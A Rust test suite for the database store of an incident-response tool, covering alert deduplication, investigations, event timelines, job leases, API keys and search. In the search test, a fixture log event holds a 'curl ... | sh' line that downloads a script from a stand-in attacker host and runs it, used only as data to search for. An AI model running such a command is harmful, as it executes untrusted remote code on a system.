//! The store suite, run against SQLite and a real Postgres.

use chrono::{TimeZone, Utc};
use riposte_model::*;
use riposte_store::testing::{TestDb, both};
use riposte_store::{AlertInsert, NewJob, Role, Store, TimelineQuery};
use std::collections::HashSet;
use std::time::Duration;

fn alert(vendor_id: Option<&str>, raw: serde_json::Value) -> Alert {
    Alert {
        id: AlertId::new(),
        source: AlertSource::Secdo,
        vendor: "Check Point".into(),
        product: "FireWall-1 GX".into(),
        vendor_event_id: vendor_id.map(str::to_string),
        title: "outgoing connection".into(),
        description: String::new(),
        severity: Severity::High,
        finding_type: "OutgoingConnectionEvent".into(),
        time: Utc.timestamp_millis_opt(1_493_209_485_000).unwrap(),
        first_seen: None,
        last_seen: None,
        received_at: Utc::now(),
        target: Target {
            hostname: Some("web01".into()),
            ..Default::default()
        },
        observables: Observables::default(),
        raw,
    }
}

fn investigation(alerts: Vec<AlertId>) -> Investigation {
    Investigation {
        id: InvestigationId::new(),
        title: "test".into(),
        status: InvestigationStatus::Pending,
        target: Target {
            hostname: Some("web01".into()),
            ..Default::default()
        },
        host: "web01".into(),
        alert_ids: alerts,
        verdict: None,
        error: None,
        project_id: None,
        plan: None,
        acquisition: None,
        created_at: Utc::now(),
        updated_at: Utc::now(),
    }
}

fn event(seconds: Option<i64>, action: Action, user: &str, msg: &str) -> Event {
    Event::new(
        seconds.map(|s| Utc.timestamp_opt(s, 0).unwrap()),
        "web01",
        action,
        msg,
        EventOrigin {
            parser: "auth_log".into(),
            path: "/var/log/auth.log".into(),
            record: Some(1),
        },
    )
    .with("username", user)
}

async fn for_each_backend<F, Fut>(f: F)
where
    F: Fn(TestDb) -> Fut,
    Fut: std::future::Future<Output = ()>,
{
    for db in both().await {
        let name = db.name();
        eprintln!("backend: {name}");
        f(db).await;
    }
}

#[tokio::test]
async fn migrations_are_versioned_and_rerunnable() {
    for_each_backend(|db| async move {
        assert_eq!(db.store().schema_version().await.unwrap(), 17);
        // Opening again re-runs the migrator, which must be a no-op.
        let again = Store::connect(db.url()).await.unwrap();
        assert_eq!(again.schema_version().await.unwrap(), 17);
    })
    .await;
}

#[tokio::test]
async fn alerts_are_deduplicated_by_source_and_vendor_id() {
    for_each_backend(|db| async move {
        let s = db.store();
        let mut conn = s.pool().acquire().await.unwrap();
        let first = alert(Some("871151"), serde_json::json!({"a": 1}));
        let AlertInsert::Created(id) = Store::insert_alert(&mut conn, &first).await.unwrap() else {
            panic!("first insert must create")
        };
        let again = alert(Some("871151"), serde_json::json!({"a": 2}));
        assert_eq!(
            Store::insert_alert(&mut conn, &again).await.unwrap(),
            AlertInsert::Duplicate(id)
        );
        // Without a vendor id, identical payloads are duplicates and different payloads are not.
        let p1 = alert(None, serde_json::json!({"x": 1}));
        let p1_again = alert(None, serde_json::json!({"x": 1}));
        let p2 = alert(None, serde_json::json!({"x": 2}));
        assert!(matches!(
            Store::insert_alert(&mut conn, &p1).await.unwrap(),
            AlertInsert::Created(_)
        ));
        assert!(matches!(
            Store::insert_alert(&mut conn, &p1_again).await.unwrap(),
            AlertInsert::Duplicate(_)
        ));
        assert!(matches!(
            Store::insert_alert(&mut conn, &p2).await.unwrap(),
            AlertInsert::Created(_)
        ));
        assert_eq!(s.count_alerts().await.unwrap(), 3);
        let stored = s.get_alert(id).await.unwrap().unwrap();
        assert_eq!(stored.alert, first);
        assert_eq!(s.list_alerts(10, 0).await.unwrap().len(), 3);
    })
    .await;
}

/// A vendor id of kilobytes (random, so Postgres cannot compress it into its index) is
/// stored and deduplicated like a short one: the key of the unique index is its hash.
#[tokio::test]
async fn alerts_with_huge_vendor_ids_are_stored_and_deduplicated() {
    use sha2::{Digest, Sha256};
    let noise = |seed: &str| -> String {
        (0..200)
            .map(|i| hex::encode(Sha256::digest(format!("{seed}{i}"))))
            .collect()
    };
    for_each_backend(|db| async move {
        let s = db.store();
        let mut conn = s.pool().acquire().await.unwrap();
        let (a, b) = (noise("a"), noise("b"));
        assert_eq!(a.len(), 12_800);
        let AlertInsert::Created(id) =
            Store::insert_alert(&mut conn, &alert(Some(&a), serde_json::json!({})))
                .await
                .unwrap()
        else {
            panic!("{}: the first insert must create", db.name())
        };
        assert_eq!(
            Store::insert_alert(&mut conn, &alert(Some(&a), serde_json::json!({"again": 1})))
                .await
                .unwrap(),
            AlertInsert::Duplicate(id)
        );
        assert!(matches!(
            Store::insert_alert(&mut conn, &alert(Some(&b), serde_json::json!({})))
                .await
                .unwrap(),
            AlertInsert::Created(_)
        ));
        let stored = s.get_alert(id).await.unwrap().unwrap();
        assert_eq!(stored.alert.vendor_event_id.as_deref(), Some(a.as_str()));
    })
    .await;
}

#[tokio::test]
async fn investigations_keep_alerts_status_and_verdict() {
    for_each_backend(|db| async move {
        let s = db.store();
        let mut tx = s.begin().await.unwrap();
        let a = alert(Some("1"), serde_json::Value::Null);
        Store::insert_alert(&mut tx, &a).await.unwrap();
        let inv = investigation(vec![a.id]);
        Store::create_investigation(&mut tx, &inv).await.unwrap();
        Store::link_alert(&mut tx, inv.id, a.id).await.unwrap(); // idempotent
        let detail = riposte_model::AlertDecision {
            summary: "resolved to web01".into(),
            evaluations: vec![],
            joined: true,
        };
        Store::set_alert_decision(
            &mut tx,
            a.id,
            Some(inv.id),
            "resolved to web01",
            Some(&detail),
        )
        .await
        .unwrap();
        tx.commit().await.unwrap();

        let got = s.get_investigation(inv.id).await.unwrap().unwrap();
        assert_eq!(got.alert_ids, vec![a.id]);
        let stored = s.get_alert(a.id).await.unwrap().unwrap();
        assert_eq!(stored.decision.as_deref(), Some("resolved to web01"));
        assert_eq!(stored.decision_detail, Some(detail));
        assert_eq!(got.status, InvestigationStatus::Pending);
        let mut conn = s.pool().acquire().await.unwrap();
        assert_eq!(got.acquisition, None);
        let acquisition = riposte_model::AcquisitionSummary {
            form: Some(riposte_model::EvidenceForm::Folder),
            layouts: vec![riposte_model::SystemLayout::LooseLogs],
            profiles: vec!["loose-logs".into()],
            items: 2,
            parsable: 0,
            skipped: 1,
            snapshots: vec![riposte_model::CloudVolume {
                region: "eu-west-1".into(),
                snapshot_id: "snap-0123456789abcdef0".into(),
                instance_id: Some("i-0abc".into()),
                created_by_riposte: true,
                ..Default::default()
            }],
        };
        Store::set_acquisition(&mut conn, inv.id, &acquisition)
            .await
            .unwrap();
        let verdict = VerdictSummary {
            verdict: Verdict::NoEvidence,
            score: 0,
            reasons: vec!["r".into()],
            inconclusive: true,
            warnings: vec!["no parsable evidence collected from web01: …".into()],
        };
        Store::set_verdict(&mut conn, inv.id, &verdict)
            .await
            .unwrap();
        let got = s.get_investigation(inv.id).await.unwrap().unwrap();
        assert_eq!(got.status, InvestigationStatus::Complete);
        assert_eq!(got.verdict, Some(verdict));
        assert_eq!(got.acquisition, Some(acquisition));
        let verdict = VerdictSummary {
            verdict: Verdict::Malicious,
            score: 80,
            reasons: vec!["r".into()],
            inconclusive: false,
            warnings: Vec::new(),
        };
        Store::set_verdict(&mut conn, inv.id, &verdict)
            .await
            .unwrap();
        let got = s.get_investigation(inv.id).await.unwrap().unwrap();
        assert_eq!(got.verdict, Some(verdict));
        let list = s.list_investigations(10, 0).await.unwrap();
        assert_eq!(list[0].verdict, Some(Verdict::Malicious));
        assert_eq!(
            s.get_alert(a.id).await.unwrap().unwrap().investigation_id,
            Some(inv.id)
        );
        assert!(
            s.get_investigation(InvestigationId::new())
                .await
                .unwrap()
                .is_none()
        );
    })
    .await;
}

#[tokio::test]
async fn timeline_filters_sorts_and_pages() {
    for_each_backend(|db| async move {
        let s = db.store();
        let inv = investigation(vec![]);
        let mut conn = s.pool().acquire().await.unwrap();
        Store::create_investigation(&mut conn, &inv).await.unwrap();
        // 1000 events (more than one insert batch), times out of order, some untimed.
        let events: Vec<Event> = (0..1000)
            .map(|i| {
                let t = if i % 10 == 0 {
                    None
                } else {
                    Some(1_700_000_000 + (i * 7919) % 1000)
                };
                let action = if i % 2 == 0 {
                    Action::UserLogonFailed
                } else {
                    Action::UserLogon
                };
                event(
                    t,
                    action,
                    if i % 3 == 0 { "root" } else { "alice" },
                    &format!("Event number {i}"),
                )
            })
            .collect();
        Store::insert_events(&mut conn, inv.id, 0, &events)
            .await
            .unwrap();
        assert_eq!(s.count_events(inv.id).await.unwrap(), 1000);

        // Page through everything: every event exactly once, in (time, seq) order, untimed last.
        let mut seen = Vec::new();
        let mut q = TimelineQuery {
            limit: Some(77),
            ..Default::default()
        };
        loop {
            let page = s.timeline(inv.id, &q).await.unwrap();
            seen.extend(page.events.into_iter().map(|t| (t.event.time, t.seq)));
            match page.next_cursor {
                Some(c) => q.cursor = Some(c),
                None => break,
            }
        }
        assert_eq!(seen.len(), 1000);
        assert_eq!(
            seen.iter().map(|(_, s)| *s).collect::<HashSet<_>>().len(),
            1000
        );
        let key = |t: &Option<chrono::DateTime<Utc>>| t.map(|t| t.timestamp()).unwrap_or(i64::MAX);
        assert!(
            seen.windows(2)
                .all(|w| (key(&w[0].0), w[0].1) < (key(&w[1].0), w[1].1))
        );

        // Filters.
        let q = TimelineQuery {
            action: Some(Action::UserLogon),
            username: Some("root".into()),
            limit: Some(1000),
            ..Default::default()
        };
        let page = s.timeline(inv.id, &q).await.unwrap();
        let expected = (0..1000).filter(|i| i % 2 == 1 && i % 3 == 0).count();
        assert_eq!(page.events.len(), expected);
        assert!(page.events.iter().all(
            |t| t.event.action == Action::UserLogon && t.event.attr("username") == Some("root")
        ));
        let q = TimelineQuery {
            text: Some("NUMBER 99".into()),
            limit: Some(1000),
            ..Default::default()
        };
        let page = s.timeline(inv.id, &q).await.unwrap();
        let mut hits: Vec<u64> = page.events.iter().map(|t| t.seq).collect();
        hits.sort();
        assert_eq!(
            hits,
            vec![99, 990, 991, 992, 993, 994, 995, 996, 997, 998, 999]
        );
        let q = TimelineQuery {
            text: Some("100%".into()),
            ..Default::default()
        };
        assert!(
            s.timeline(inv.id, &q).await.unwrap().events.is_empty(),
            "LIKE wildcards in user text are literal"
        );
        let q = TimelineQuery {
            from_us: Some(1_700_000_500_000_000),
            to_us: Some(1_700_000_600_000_000),
            limit: Some(1000),
            ..Default::default()
        };
        let page = s.timeline(inv.id, &q).await.unwrap();
        assert!(!page.events.is_empty());
        assert!(
            page.events.iter().all(
                |t| (1_700_000_500..1_700_000_600).contains(&t.event.time.unwrap().timestamp())
            )
        );
        let q = TimelineQuery {
            descending: true,
            limit: Some(1),
            ..Default::default()
        };
        let page = s.timeline(inv.id, &q).await.unwrap();
        assert!(
            page.events[0].event.time.is_none(),
            "untimed events sort last, so first when descending"
        );
        assert!(
            s.timeline(
                inv.id,
                &TimelineQuery {
                    cursor: Some("garbage".into()),
                    ..Default::default()
                }
            )
            .await
            .is_err()
        );

        // Reprocessing replaces events.
        Store::delete_events(&mut conn, inv.id).await.unwrap();
        assert_eq!(s.count_events(inv.id).await.unwrap(), 0);
    })
    .await;
}

#[tokio::test]
async fn jobs_are_leased_fenced_and_reclaimed_after_expiry() {
    for_each_backend(|db| async move {
        let s = db.store();
        let mut conn = s.pool().acquire().await.unwrap();
        let id = Store::enqueue(
            &mut conn,
            &NewJob::new(JobKind::Collect, serde_json::json!({"k": 1}), None),
        )
        .await
        .unwrap();
        drop(conn);
        let lease = Duration::from_millis(300);
        let claimed = s
            .claim_job("w1", lease)
            .await
            .unwrap()
            .expect("job is claimable");
        assert_eq!(claimed.job.id, id);
        assert_eq!(claimed.job.attempts, 1);
        assert_eq!(claimed.job.payload["k"], 1);
        assert!(
            s.claim_job("w2", lease).await.unwrap().is_none(),
            "leased job is not handed out twice"
        );
        assert!(s.renew_lease(id, "w1", lease).await.unwrap());
        tokio::time::sleep(Duration::from_millis(400)).await;
        // w1 "died": its lease expired, so w2 gets the job and w1 can no longer commit.
        let again = s
            .claim_job("w2", lease)
            .await
            .unwrap()
            .expect("expired lease is reclaimed");
        assert_eq!(again.job.attempts, 2);
        let mut tx = s.begin().await.unwrap();
        assert!(
            !Store::complete_job(&mut tx, id, "w1").await.unwrap(),
            "stale worker is fenced off"
        );
        assert!(Store::complete_job(&mut tx, id, "w2").await.unwrap());
        tx.commit().await.unwrap();
        assert!(s.claim_job("w3", lease).await.unwrap().is_none());
        assert_eq!(s.job_counts().await.unwrap().done, 1);

        // A failure with a retry time requeues; without one it fails for good.
        let mut conn = s.pool().acquire().await.unwrap();
        let j2 = Store::enqueue(
            &mut conn,
            &NewJob::new(JobKind::Process, serde_json::json!({}), None),
        )
        .await
        .unwrap();
        drop(conn);
        let c = s.claim_job("w1", lease).await.unwrap().unwrap();
        assert_eq!(c.job.id, j2);
        assert!(
            s.fail_job(
                j2,
                "w1",
                "boom",
                Some(Utc::now() + chrono::Duration::seconds(60))
            )
            .await
            .unwrap()
        );
        assert!(
            s.claim_job("w1", lease).await.unwrap().is_none(),
            "backed-off job waits for its time"
        );
        let jobs = s.jobs_of_kind(JobKind::Process).await.unwrap();
        assert_eq!(jobs[0].status, JobStatus::Queued);
        assert_eq!(jobs[0].last_error.as_deref(), Some("boom"));
    })
    .await;
}

#[tokio::test]
async fn concurrent_claims_never_share_a_job() {
    for_each_backend(|db| async move {
        let s = db.store().clone();
        let mut conn = s.pool().acquire().await.unwrap();
        for i in 0..40 {
            Store::enqueue(
                &mut conn,
                &NewJob::new(JobKind::Detect, serde_json::json!({"i": i}), None),
            )
            .await
            .unwrap();
        }
        drop(conn);
        let mut tasks = Vec::new();
        for w in 0..6 {
            let s = s.clone();
            tasks.push(tokio::spawn(async move {
                let mut mine = Vec::new();
                while let Some(c) = s
                    .claim_job(&format!("w{w}"), Duration::from_secs(60))
                    .await
                    .unwrap()
                {
                    mine.push(c.job.id);
                }
                mine
            }));
        }
        let mut all = Vec::new();
        for t in tasks {
            all.extend(t.await.unwrap());
        }
        assert_eq!(all.len(), 40);
        assert_eq!(all.iter().collect::<HashSet<_>>().len(), 40);
    })
    .await;
}

#[tokio::test]
async fn api_keys_are_hashed_and_revocable() {
    for_each_backend(|db| async move {
        let s = db.store();
        let (rec, key) = s.create_api_key("ci", Role::Analyst).await.unwrap();
        assert!(key.starts_with("rip_") && key.len() == 68);
        let stored: Vec<String> = sqlx::query_scalar("SELECT key_hash FROM api_keys")
            .fetch_all(s.pool())
            .await
            .unwrap();
        assert!(
            !stored.iter().any(|h| h.contains(&key[4..])),
            "the secret itself is never stored"
        );
        assert_eq!(
            s.authenticate_api_key(&key).await.unwrap().unwrap().role,
            Role::Analyst
        );
        assert!(s.authenticate_api_key("rip_nope").await.unwrap().is_none());
        let listed = s.list_api_keys().await.unwrap();
        assert_eq!(listed.len(), 1);
        assert_eq!(
            (listed[0].id.as_str(), listed[0].role),
            (rec.id.as_str(), Role::Analyst)
        );
        assert!(s.revoke_api_key(&rec.id).await.unwrap());
        assert!(s.list_api_keys().await.unwrap().is_empty());
        assert!(
            !s.revoke_api_key(&rec.id).await.unwrap(),
            "revoking twice reports no active key"
        );
        assert!(s.authenticate_api_key(&key).await.unwrap().is_none());
        assert!(Role::Admin.allows(Role::Analyst) && !Role::Viewer.allows(Role::Analyst));
    })
    .await;
}

#[tokio::test]
async fn evidence_alarms_and_audit_are_recorded() {
    for_each_backend(|db| async move {
        let s = db.store();
        let inv = investigation(vec![]);
        let mut conn = s.pool().acquire().await.unwrap();
        Store::create_investigation(&mut conn, &inv).await.unwrap();
        let item = EvidenceItem {
            id: EvidenceId::new(),
            investigation_id: inv.id,
            sha256: "ab".repeat(32),
            size: 42,
            provenance: Provenance {
                method: "evidence-library".into(),
                source: "/lib/web01".into(),
                host: "web01".into(),
                original_path: "/var/log/auth.log".into(),
                modified: None,
                image: None,
                cloud: Some(riposte_model::CloudVolume {
                    region: "eu-west-1".into(),
                    snapshot_id: "snap-0123456789abcdef0".into(),
                    volume_id: Some("vol-0abc".into()),
                    device_name: Some("/dev/xvda".into()),
                    ..Default::default()
                }),
                ssh: None,
            },
            storage_key: "sha256/ab/abab".into(),
            // The store keeps millisecond precision.
            collected_at: Utc
                .timestamp_millis_opt(Utc::now().timestamp_millis())
                .unwrap(),
        };
        assert!(Store::insert_evidence(&mut conn, &item).await.unwrap());
        let dup = EvidenceItem {
            id: EvidenceId::new(),
            ..item.clone()
        };
        assert!(
            !Store::insert_evidence(&mut conn, &dup).await.unwrap(),
            "same path twice is one item"
        );
        assert_eq!(s.list_evidence(inv.id).await.unwrap(), vec![item]);
        let alarm = Alarm {
            detector: "d".into(),
            title: "t".into(),
            description: String::new(),
            severity: Severity::High,
            mitre: vec![],
            event_refs: vec![1, 2],
            rule_id: Some("r-1".into()),
            files: vec![riposte_model::AlarmFile {
                path: "/tmp/x".into(),
                sha256: None,
                matched: vec!["$a".into()],
            }],
            hunting: false,
        };
        Store::replace_alarms(&mut conn, inv.id, &[alarm.clone(), alarm.clone()])
            .await
            .unwrap();
        Store::replace_alarms(&mut conn, inv.id, std::slice::from_ref(&alarm))
            .await
            .unwrap();
        assert_eq!(s.list_alarms(inv.id).await.unwrap(), vec![alarm]);
        for action in ["first", "second", "third"] {
            Store::audit(
                &mut conn,
                Some(inv.id),
                "test",
                action,
                &serde_json::json!({}),
            )
            .await
            .unwrap();
        }
        let trail: Vec<String> = s
            .audit_trail(inv.id)
            .await
            .unwrap()
            .into_iter()
            .map(|e| e.action)
            .collect();
        assert_eq!(trail, ["first", "second", "third"]);
    })
    .await;
}

#[tokio::test]
async fn free_text_search_finds_rare_and_frequent_terms_in_messages_and_attributes() {
    for_each_backend(|db| async move {
        let s = db.store();
        let (a, b) = (investigation(vec![]), investigation(vec![]));
        let mut conn = s.pool().acquire().await.unwrap();
        Store::create_investigation(&mut conn, &a).await.unwrap();
        Store::create_investigation(&mut conn, &b).await.unwrap();
        // More events share "accepted" than the trigram index's rare-term limit, so that
        // term takes the row-by-row path and the others the index.
        let logon = |i: i64| {
            event(
                Some(1_700_000_000 + i),
                Action::UserLogon,
                &format!("user{i}"),
                &format!("Accepted password for user{i} from 10.0.{}.{}", i / 256, i % 256),
            )
        };
        let mut events: Vec<Event> = (0..25_000).map(logon).collect();
        events[12_345] = events[12_345]
            .clone()
            .with("cmd", "curl http://Evil.Example/x.sh | sh -c 'say \"hi\"'")
            .with("file_name", "ÜNÏCODE.txt");
        Store::insert_events(&mut conn, a.id, 0, &events).await.unwrap();
        let other = logon(7).with("cmd", "wget evil.example");
        Store::insert_events(&mut conn, b.id, 0, &[other]).await.unwrap();

        let hits = |term: &str, limit: i64| {
            let q = TimelineQuery {
                text: Some(term.into()),
                limit: Some(limit),
                ..Default::default()
            };
            let s = s.clone();
            let inv = a.id;
            async move {
                let page = s.timeline(inv, &q).await.unwrap();
                let mut seqs: Vec<u64> = page.events.iter().map(|t| t.seq).collect();
                seqs.sort();
                (seqs, page.next_cursor.is_some())
            }
        };
        // An attribute value, any case, never another investigation's events.
        assert_eq!(hits("EVIL.example", 100).await, (vec![12_345], false));
        assert_eq!(hits("say \"hi\"", 100).await, (vec![12_345], false));
        assert_eq!(hits("ünïcode", 100).await, (vec![12_345], false));
        // Exact substrings: the index is only a prefilter.
        let expected: Vec<u64> = std::iter::once(1234).chain(12_340..12_350).collect();
        assert_eq!(hits("user1234 ", 100).await.0, vec![1234]);
        assert_eq!(hits("user1234", 100).await.0, expected);
        // Short terms (no trigram) still work.
        assert_eq!(hits("| s", 100).await, (vec![12_345], false));
        // A frequent term fills a page and pages on.
        let (page, more) = hits("ACCEPTED password", 100).await;
        assert_eq!((page.len(), more), (100, true));
        assert_eq!(page, (0..100).collect::<Vec<u64>>());

        // Reprocessing keeps the index in step with the events.
        Store::delete_events(&mut conn, a.id).await.unwrap();
        let again = logon(1).with("cmd", "curl evil.example");
        Store::insert_events(&mut conn, a.id, 0, &[again]).await.unwrap();
        assert_eq!(hits("evil.example", 100).await, (vec![0], false));
        assert_eq!(hits("accepted", 100).await, (vec![0], false));
        if s.backend() == riposte_store::Backend::Sqlite {
            let indexed: i64 = sqlx::query_scalar(
                "SELECT COUNT(*) FROM events_search WHERE events_search MATCH '\"evi\" AND \"xam\"'",
            )
            .fetch_one(s.pool())
            .await
            .unwrap();
            assert_eq!(indexed, 2, "the trigram index holds exactly the live events");
        }
    })
    .await;
}

#[tokio::test]
async fn alerts_stored_in_one_statement_get_the_outcomes_of_storing_them_one_by_one() {
    for_each_backend(|db| async move {
        let s = db.store();
        let mut conn = s.pool().acquire().await.unwrap();
        let known = alert(Some("known"), serde_json::json!({}));
        let AlertInsert::Created(known_id) = Store::insert_alert(&mut conn, &known).await.unwrap()
        else {
            panic!("first insert must create");
        };
        let fresh = alert(Some("fresh"), serde_json::json!({}));
        let fresh_again = alert(Some("fresh"), serde_json::json!({}));
        let known_again = alert(Some("known"), serde_json::json!({}));
        let no_id = alert(None, serde_json::json!({"p": 1}));
        let no_id_again = alert(None, serde_json::json!({"p": 1}));
        let batch = vec![
            fresh.clone(),
            known_again,
            fresh_again,
            no_id.clone(),
            no_id_again,
        ];
        let outcomes = Store::insert_alerts(&mut conn, &batch).await.unwrap();
        assert_eq!(
            outcomes,
            vec![
                AlertInsert::Created(fresh.id),
                AlertInsert::Duplicate(known_id),
                AlertInsert::Duplicate(fresh.id),
                AlertInsert::Created(no_id.id),
                AlertInsert::Duplicate(no_id.id),
            ]
        );
        assert_eq!(s.count_alerts().await.unwrap(), 3);
        let seen: i64 = sqlx::query_scalar("SELECT seen_count FROM alerts WHERE id = $1")
            .bind(fresh.id.to_string())
            .fetch_one(s.pool())
            .await
            .unwrap();
        assert_eq!(seen, 2, "the repeat inside the batch is counted");
        // Bigger than one statement's chunk: every alert stored, in order.
        let many: Vec<Alert> = (0..450)
            .map(|n| alert(Some(&format!("many-{n}")), serde_json::json!({})))
            .collect();
        let outcomes = Store::insert_alerts(&mut conn, &many).await.unwrap();
        assert!(
            outcomes
                .iter()
                .zip(&many)
                .all(|(o, a)| *o == AlertInsert::Created(a.id))
        );
        assert_eq!(s.count_alerts().await.unwrap(), 453);
    })
    .await;
}

#[tokio::test]
async fn triage_jobs_are_claimed_in_batches_of_one_kind_and_completed_only_with_their_lease() {
    for_each_backend(|db| async move {
        let s = db.store();
        let lease = Duration::from_secs(60);
        let mut conn = s.pool().acquire().await.unwrap();
        let triage: Vec<NewJob> = (0..5)
            .map(|n| NewJob::new(JobKind::TriageAlert, serde_json::json!({"n": n}), None))
            .collect();
        let ids = Store::enqueue_many(&mut conn, &triage).await.unwrap();
        Store::enqueue(
            &mut conn,
            &NewJob::new(JobKind::Notify, serde_json::json!({}), None),
        )
        .await
        .unwrap();
        drop(conn);
        let first = s
            .claim_jobs_of_kind("w1", lease, JobKind::TriageAlert, 3)
            .await
            .unwrap();
        assert_eq!(first.len(), 3);
        assert!(first.iter().all(|j| j.job.kind == JobKind::TriageAlert));
        let rest = s
            .claim_jobs_of_kind("w2", lease, JobKind::TriageAlert, 10)
            .await
            .unwrap();
        assert_eq!(rest.len(), 2, "leased jobs are not claimed twice");
        let claimed: HashSet<JobId> = first.iter().chain(&rest).map(|j| j.job.id).collect();
        assert_eq!(claimed, ids.iter().copied().collect());
        let first_ids: Vec<JobId> = first.iter().map(|j| j.job.id).collect();
        // Renewal reports only the leases still held.
        let mut mixed = first_ids.clone();
        mixed.push(rest[0].job.id);
        assert_eq!(s.renew_leases(&mixed, "w1", lease).await.unwrap().len(), 3);
        let mut tx = s.begin().await.unwrap();
        assert!(
            !Store::complete_jobs(&mut tx, &mixed, "w1").await.unwrap(),
            "one of the jobs is w2's"
        );
        tx.rollback().await.unwrap();
        let mut tx = s.begin().await.unwrap();
        assert!(
            Store::complete_jobs(&mut tx, &first_ids, "w1")
                .await
                .unwrap()
        );
        tx.commit().await.unwrap();
        let counts = s.job_counts().await.unwrap();
        assert_eq!((counts.done, counts.running, counts.queued), (3, 2, 1));
    })
    .await;
}

#[tokio::test]
async fn a_key_revoked_by_another_process_stops_working_within_the_verified_key_ttl() {
    for_each_backend(|db| async move {
        let s = db.store();
        let (rec, key) = s.create_api_key("ci", Role::Analyst).await.unwrap();
        assert!(s.authenticate_api_key(&key).await.unwrap().is_some());
        // Another process (`riposte apikey revoke`) on the same database.
        let other = Store::connect(db.url()).await.unwrap();
        assert!(other.revoke_api_key(&rec.id).await.unwrap());
        assert!(other.authenticate_api_key(&key).await.unwrap().is_none());
        tokio::time::sleep(riposte_store::VERIFIED_KEY_TTL + Duration::from_millis(100)).await;
        assert!(
            s.authenticate_api_key(&key).await.unwrap().is_none(),
            "{}: the revocation is seen once the key's verification is older than the TTL",
            db.name()
        );
    })
    .await;
}
